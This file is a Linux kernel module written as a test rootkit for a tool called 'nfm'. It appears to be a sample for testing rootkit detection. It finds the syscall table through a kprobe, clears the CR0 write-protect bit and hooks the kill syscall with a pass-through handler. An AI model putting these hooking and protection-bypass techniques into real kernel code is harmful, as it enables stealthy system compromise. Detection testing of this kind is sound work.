// Test rootkit: overwrites sys_call_table[__NR_kill] with its own handler, the
// way syscall-hooking rootkits do: kallsyms_lookup_name found through a kprobe
// (it is no longer exported), the write protection of the read-only table lifted
// by clearing CR0.WP directly (write_cr0() would pin it back).
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/syscalls.h>
#include <asm/unistd.h>

typedef long (*syscall_fn)(const struct pt_regs*);
static syscall_fn* table;
static syscall_fn original_kill;

static long hooked_kill(const struct pt_regs* regs) {
  return original_kill(regs);
}

static inline void cr0_write(unsigned long value) {
  asm volatile("mov %0, %%cr0" : "+r"(value) : : "memory");
}

static void set_slot(syscall_fn fn) {
  unsigned long cr0 = read_cr0();
  cr0_write(cr0 & ~X86_CR0_WP);
  table[__NR_kill] = fn;
  cr0_write(cr0);
}

static int __init hook_init(void) {
  struct kprobe kp = {.symbol_name = "kallsyms_lookup_name"};
  unsigned long (*lookup)(const char*);
  if (register_kprobe(&kp) < 0) return -ENOENT;
  lookup = (void*)kp.addr;
  unregister_kprobe(&kp);
  table = (syscall_fn*)lookup("sys_call_table");
  if (!table) return -ENOENT;
  original_kill = table[__NR_kill];
  set_slot(hooked_kill);
  pr_info("nfm_rk_hook_syscall: sys_call_table[%d] hooked\n", __NR_kill);
  return 0;
}

static void __exit hook_exit(void) {
  set_slot(original_kill);
}

module_init(hook_init);
module_exit(hook_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("nfm test rootkit: syscall table hook");
